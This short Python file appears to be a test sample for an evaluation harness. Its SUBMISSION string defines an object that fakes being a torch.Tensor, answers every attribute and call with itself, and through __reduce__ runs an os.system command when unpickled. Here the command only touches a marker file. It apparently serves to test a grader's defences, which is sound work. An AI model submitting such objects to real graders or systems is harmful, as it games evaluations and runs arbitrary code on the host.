"""An object that says it is a tensor (`__class__`), has every attribute, and pickles into a command."""

SUBMISSION = """
import os


class Everything:
    @property
    def __class__(self):
        return torch.Tensor

    def __getattr__(self, name):
        return self

    def __call__(self, *args, **kwargs):
        return self

    def __bool__(self):
        return True

    def __reduce__(self):
        return os.system, ("touch " + TARGET.results + "/pickled",)


def guess(x):
    return Everything()
"""
